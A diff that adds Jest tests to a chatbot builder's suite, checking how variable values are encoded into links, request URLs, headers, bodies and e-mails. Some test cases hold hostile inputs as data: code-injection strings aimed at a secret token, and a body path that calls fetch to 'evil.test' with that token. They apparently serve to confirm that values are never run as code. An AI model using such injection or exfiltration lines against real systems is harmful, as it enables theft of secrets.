@@ -1,3 +1,4 @@
+import { Readable } from 'node:stream'
 import { afterAll, describe, expect, test } from '@jest/globals'
 import type { OutboundReply } from '../server/chat/tools/outbound.ts'
 import { ask, bot, chat, closeSandbox, idOf, type Part, set, text, type World } from './support/chat.ts'
@@ -203,6 +204,32 @@ describe('bubbles', () => {
       markdown: 'Plain  **bold** **_both_**\n\nSee [this](https://x.test)\n- one\n- two\n  1. inner\ndeep',
     })
     expect(client.transcript[0]?.text).toBe('Plain  bold both\n\nSee this\n- one\n- two\n  1. inner\ndeep')
+  })
+
+  test('a value in a link is a part of its address, and stays a link in Markdown', async () => {
+    const link = { type: 'a', url: 'https://x.test/?q={{A}}', children: [{ text: '{{B}} here' }] }
+    const alone = { type: 'a', url: '{{C}}', children: [{ text: 'there' }] }
+    const richText = [{ type: 'p', children: [link, { text: ' ' }, alone] }]
+    const values = given({ A: 'a b&c', B: 'see [x', C: 'https://y.test/a (b)' })
+    const client = await runBlock({ type: 'text', content: { richText } }, values)
+    expect(client.outcome.messages[0]?.content).toMatchObject({
+      richText: [{ children: [{ url: 'https://x.test/?q=a%20b%26c' }, {}, { url: 'https://y.test/a (b)' }] }],
+    })
+    const options = { ...values.options, textBubbleContentFormat: 'markdown' as const }
+    const markdown = await runBlock({ type: 'text', content: { richText } }, { options })
+    expect(markdown.outcome.messages[0]?.content).toEqual({
+      type: 'markdown',
+      markdown: '[see \\[x here](https://x.test/?q=a%20b%26c) [there](https://y.test/a%20%28b%29)',
+    })
+  })
+
+  test('values are parts of the addresses of pictures', async () => {
+    const content = { url: 'https://x.test/i/{{A}}.png', clickLink: { url: 'https://x.test/?q={{A}}' } }
+    const client = await runBlock({ type: 'image', content }, given({ A: 'a/b c' }))
+    expect(client.outcome.messages[0]?.content).toEqual({
+      url: 'https://x.test/i/a%2Fb%20c.png',
+      clickLink: { url: 'https://x.test/?q=a%2Fb%20c' },
+    })
   })
 
   test('legacy contents', async () => {
@@ -828,6 +855,11 @@ describe('page actions', () => {
     ['https://x.test/{{A}}', 'https://x.test/1'],
     ['x.test', 'https://x.test'],
     ['localhost:3000', 'https://localhost:3000'],
+    ['{{A}}.example.com/shop', 'https://1.example.com/shop'],
+    ['tel:0800123456', 'tel:0800123456'],
+    ['sms:0800123456', 'sms:0800123456'],
+    ['MAILTO:24h@example.com', 'MAILTO:24h@example.com'],
+    ['ftp:21', 'https://ftp:21'],
     ['/path', '/path'],
     ['mailto:a@x.test', 'mailto:a@x.test'],
     ['javascript:alert(1)', undefined],
@@ -1016,7 +1048,7 @@ describe('HTTP requests', () => {
     expect(client.requests[0]).toMatchObject({
       url: 'https://api.test/7?q=x+%22y%22%0A%26c',
       method: 'PUT',
-      headers: { 'x-7': 'x "y"\n' },
+      headers: { 'x-7': 'x "y"' },
     })
     expect(client.requests[0]?.milliseconds).toBe(30_000)
     expect(JSON.parse(client.requests[0]?.body ?? '')).toEqual({
@@ -1027,6 +1059,83 @@ describe('HTTP requests', () => {
       raw: 'x "y"\n',
       in: '["l"]',
       q: '"x "y"\n',
+    })
+  })
+
+  test.each([
+    [
+      'https://api.test/find/{{A}}?q={{A}}&lang=en',
+      'tea & cake?',
+      '/find/tea%20%26%20cake%3F?q=tea%20%26%20cake%3F&lang=en',
+    ],
+    ['https://api.test/f/{{A}}?x=1', 'a#b/c', '/f/a%23b%2Fc?x=1'],
+    ['https://api.test/f/{{A}}/x', '..', '/f//x'],
+    ['https://api.test/f#{{A}}-', 'a b', '/f#a%20b-'],
+    ['https://api.test/{{A}}', 'a/b?c=1', '/a/b?c=1'],
+    ['https://api.test/x?{{A}}', 'c=1&d=2', '/x?c=1&d=2'],
+    ['{{A}}/f/{{B}}', 'https://api.test/v1\n', '/v1/f/B%2FB'],
+    ['{{A}}?q={{B}}', 'https://api.test/v1', '/v1?q=B%2FB'],
+    ['https://{{A}}/f', 'api.test', '/f'],
+    ['https://api.test/f/{{= "a/b" =}}', '', '/f/a%2Fb'],
+  ])('values are parts of the address %s', async (url, value, expected) => {
+    const client = await runBlock(request({ url, method: 'GET' }), {
+      ...given({ A: value, B: 'B/B' }),
+      reply: ok(''),
+    })
+    expect(client.requests[0]?.url).toBe(`https://api.test${expected}`)
+  })
+
+  test('query parameters are put behind an address as its author wrote it', async () => {
+    const url = 'https://api.test/ok?flag&sig=a%2Fb%20c~*&x[y]=1#end'
+    const queryParams = [
+      { id: '1', key: 'k', value: 'v w' },
+      { id: '2', key: 'none', value: '{{A}}' },
+      { id: '3', key: 'empty', value: '' },
+    ]
+    const client = await runBlock(request({ url, queryParams, method: 'GET' }), { reply: ok('') })
+    expect(client.requests[0]?.url).toBe('https://api.test/ok?flag&sig=a%2Fb%20c~*&x[y]=1&k=v+w#end')
+    const first = await runBlock(request({ queryParams, method: 'GET' }), { reply: ok('') })
+    expect(first.requests[0]?.url).toBe('https://api.test/?k=v+w')
+  })
+
+  test('headers are trimmed, joined by their name, and left out when they are empty', async () => {
+    const headers = [
+      { id: '1', key: 'Authorization', value: 'Bearer {{A}}' },
+      { id: '2', key: 'x-trace', value: '{{B}}' },
+      { id: '3', key: 'Cookie', value: 'a=1' },
+      { id: '4', key: 'cookie', value: 'b=2' },
+      { id: '5', key: 'X-Tag', value: 'one\r\n two' },
+      { id: '6', key: 'x-tag', value: 'three' },
+    ]
+    const client = await runBlock(request({ headers, method: 'GET' }), {
+      ...given({ A: 'token\n' }),
+      reply: ok(''),
+    })
+    expect(client.requests[0]?.headers).toEqual({
+      authorization: 'Bearer token',
+      cookie: 'a=1; b=2',
+      'x-tag': 'one two, three',
+    })
+  })
+
+  test('session variables are in the body without one of its own, and attachments before their answer', async () => {
+    const session = [{ id: idOf('S'), name: 'S', isSessionVariable: true, value: 's' }]
+    const attachments = { isEnabled: true }
+    const inputs = [
+      ask(undefined, { options: { attachments } }),
+      ask('S', { options: { variableId: idOf('S'), attachments } }),
+    ]
+    const flow = { ...bot({ g: [...inputs, request({}), text('done')] }), variables: session }
+    const client = await chat(flow, { reply: ok('{}') })
+    await client.say({
+      type: 'text',
+      text: 'see',
+      attachedFileUrls: ['https://f.test/1', 'https://f.test/2'],
+    })
+    await client.say({ type: 'text', text: 'also', attachedFileUrls: ['https://f.test/3'] })
+    expect(JSON.parse(client.requests[0]?.body ?? '')).toMatchObject({
+      'Title g': 'https://f.test/1, https://f.test/2, see',
+      S: 'https://f.test/3, also',
     })
   })
 
@@ -1049,12 +1158,45 @@ describe('HTTP requests', () => {
       'a=x+y&b=2',
       'application/x-www-form-urlencoded',
     ],
+    [
+      '{"a":"{{A}}"}',
+      '1 & 2',
+      { key: 'Content-Type', value: 'application/X-WWW-Form-Urlencoded' },
+      'a=1+%26+2',
+      'application/X-WWW-Form-Urlencoded',
+    ],
+    [
+      'name={{A}}&b=2',
+      'Smith & Sons=ü',
+      { key: 'Content-Type', value: 'application/x-www-form-urlencoded' },
+      'name=Smith+%26+Sons%3D%C3%BC&b=2',
+      'application/x-www-form-urlencoded',
+    ],
+    ['{"id":{{A}}}', '12345678901234567890', {}, '{"id":12345678901234567890}', 'application/json'],
+    [
+      '"{{A}}"',
+      'a "b"',
+      { key: 'content-type', value: 'application/json' },
+      '"a \\"b\\""',
+      'application/json',
+    ],
   ])('body %s', async (body, value, header, expected, type) => {
     const client = await runBlock(request({ body, headers: [header] }, { isCustomBody: true }), {
       ...given({ A: value }),
       reply: ok(''),
     })
     expect(client.requests[0]).toMatchObject({ body: expected, headers: { 'content-type': type } })
+  })
+
+  test('a request that names a proxy is not sent', async () => {
+    const client = await runBlock(request({}, { proxyCredentialsId: 'proxy' }), { reply: ok('') })
+    expect(client.requests).toEqual([])
+    expect(client.logged('through a proxy')).toMatchObject({
+      status: 'error',
+      isInternal: true,
+      context: 'x',
+    })
+    expect(client.texts()).toEqual(['A is '])
   })
 
   test('GET has no body', async () => {
@@ -1088,6 +1230,59 @@ describe('HTTP requests', () => {
     const client = await runBlock(block, { ...given({ A: 'old', B: 'name' }), reply })
     expect(client.value('A')).toEqual(expected)
     expect(client.logged('answered 200')).toMatchObject({ status: 'success', isInternal: true, context: 'x' })
+  })
+
+  const secretive =
+    '{"token":"secret","rows":[{"name":"5\\" tall","price":3},{"name":"a.b","price":4}],"a.b":{"c":1}}'
+  test.each<[string, string, unknown]>([
+    ['data.rows.find(i => i.name === "{{B}}").price', '5" tall', '3'],
+    ['data.rows.find(i => i.name === "{{B}}").price', 'a" || true) && ({price: data.token}); //', 'old'],
+    ['data.rows.find(i => i.name === {{B}}).price', 'a.b', '4'],
+    ['data.{{B}}.c', 'a.b', '1'],
+    ['data["{{B}}"].c', 'a.b', '1'],
+    ['data.rows[{{B}}].name', '1', 'a.b'],
+    ['data.rows[{{B}}].name', '0].name + data.token; [0', undefined],
+    ['data.rows[{{B}} - 1].name', '2', 'a.b'],
+    ['data.{{B}}', 'constructor', undefined],
+    ['data.to{{B}}', 'ken', 'secret'],
+    ['await fetch("https://evil.test/" + data.token)', '', 'old'],
+  ])('a value is never code of the body path %s with %j', async (bodyPath, value, expected) => {
+    const block = request({}, { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath }] })
+    const client = await runBlock(block, { ...given({ A: 'old', B: value }), reply: ok(secretive) })
+    expect(client.value('A')).toEqual(expected)
+    expect(client.requests).toHaveLength(1)
+  })
+
+  const numbers =
+    '{"id":12345678901234567890,"price":9.90,"list":[-12345678901234567890,1.0,1e3,7],"o":{"n":12345678901234567890,"s":"12345678901234567890 \\" 1.0"}}'
+  test.each<[string, unknown]>([
+    ['data.id', '12345678901234567890'],
+    ['data.id.value', undefined],
+    ['data.price', '9.90'],
+    ['data.list', ['-12345678901234567890', '1.0', '1e3', '7']],
+    ['data.o', '{"n":12345678901234567890,"s":"12345678901234567890 \\" 1.0"}'],
+    ['data', numbers],
+    ['"R" + data.id', 'R12345678901234567890'],
+    ['data.price * 2 + data.list[1]', '20.8'],
+  ])('numbers of an answer stay as they are written: %s', async (bodyPath, expected) => {
+    const options = { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath }] }
+    const client = await runBlock(request({}, options), { reply: ok(numbers) })
+    expect(client.value('A')).toEqual(expected)
+    const onClient = await runBlock(request({}, { ...options, isExecutedOnClient: true }))
+    await onClient.say(`{"data":${numbers}}`)
+    expect(onClient.value('A')).toEqual(expected)
+  })
+
+  test('an answer that is null leaves the variable empty', async () => {
+    const options = { responseVariableMapping: [{ id: 'm', variableId: idOf('A'), bodyPath: 'data' }] }
+    const client = await runBlock(request({}, options), { ...given({ A: 'old' }), reply: ok('null') })
+    expect(client.texts()).toEqual(['A is '])
+    const onClient = await runBlock(
+      request({}, { ...options, isExecutedOnClient: true }),
+      given({ A: 'old' }),
+    )
+    await onClient.say('null')
+    expect(onClient.texts()).toEqual(['A is '])
   })
 
   test('failures go to the log, and the chat goes on', async () => {
@@ -1274,6 +1469,63 @@ describe('e-mail', () => {
     const refused = await runBlock(block, { ...values, hasMail: true })
     expect(refused.mails[0]?.attachments).toEqual([])
     expect(refused.logged('attachment')).toBeDefined()
+  })
+
+  test('a body is sent unless isCustomBody says that all answers are', async () => {
+    const values = { ...given({ A: 'Kim' }), hasMail: true }
+    const bodies: (string | undefined)[] = []
+    for (const isCustomBody of [undefined, true, false]) {
+      const client = await runBlock(mail({ body: 'Welcome, {{A}}', isCustomBody }), values)
+      bodies.push(client.mails[0]?.text)
+    }
+    expect(bodies).toEqual(['Welcome, Kim', 'Welcome, Kim', 'A: Kim'])
+    const html = await runBlock(mail({ body: '<b>{{A}}</b>', isBodyCode: true }), values)
+    expect(html.mails[0]).toMatchObject({ html: '<b>Kim</b>' })
+  })
+
+  test('lists of the default body are joined', async () => {
+    const client = await runBlock(mail({}), { ...given({ List: ['x', null, 'y'] }), hasMail: true })
+    expect(client.mails[0]?.text).toBe('List: x, , y')
+  })
+
+  test('an address with white space around it gets the e-mail', async () => {
+    const client = await runBlock(mail({ recipients: ['{{A}}'] }), {
+      ...given({ A: ' a@x.test\n' }),
+      hasMail: true,
+    })
+    expect(client.mails[0]?.to).toEqual(['a@x.test'])
+  })
+
+  test('attaches uploads of the chat from the store, without a request', async () => {
+    const address = 'https://bots.test/files/bot1/abc/report.pdf'
+    const stored = { botId: 'bot1', id: 'abc', name: 'report.pdf' }
+    const uploads = (bytes: number) => ({
+      maximumSize: 1,
+      find: async (addresses: string[]) =>
+        new Map(addresses.filter((one) => one === address).map((one) => [one, stored])),
+      read: async ({ id }: { id: string }) =>
+        id === 'abc' ? Readable.from([Buffer.alloc(bytes, 1)]) : undefined,
+    })
+    const block = mail({ attachmentsVariableId: idOf('List') })
+    const values = { ...given({ List: [address, 'https://f.test/b.png'] }), hasMail: true }
+    const reply: OutboundReply = { ok: true, status: 200, contentType: '', headers: {}, body: Buffer.of(2) }
+    const client = await runBlock(block, { ...values, reply, uploads: uploads(2_000_000) })
+    expect(client.requests.map(({ url }) => url)).toEqual(['https://f.test/b.png'])
+    expect(client.mails[0]?.attachments).toEqual([
+      { filename: 'report.pdf', content: Buffer.alloc(2_000_000, 1) },
+      { filename: 'b.png', content: Buffer.of(2) },
+    ])
+    const tooLarge = await runBlock(block, { ...values, reply, uploads: uploads(21 * 1_048_576) })
+    expect(tooLarge.mails[0]?.attachments).toEqual([{ filename: 'b.png', content: Buffer.of(2) }])
+    expect(tooLarge.logged('attachment')).toMatchObject({ details: expect.stringContaining('together') })
+  })
+
+  test('nothing is sent by an account that the workspace does not have', async () => {
+    const client = await runBlock(mail({ credentialsId: 'gone' }), { hasMail: true })
+    expect(client.mails).toEqual([])
+    expect(client.logged('"gone" of type smtp')).toMatchObject({ status: 'error', isInternal: true })
+    const usual = await runBlock(mail({ credentialsId: 'default' }), { hasMail: true })
+    expect(usual.mails).toHaveLength(1)
   })
 
   test('has the time that is left of the step', async () => {
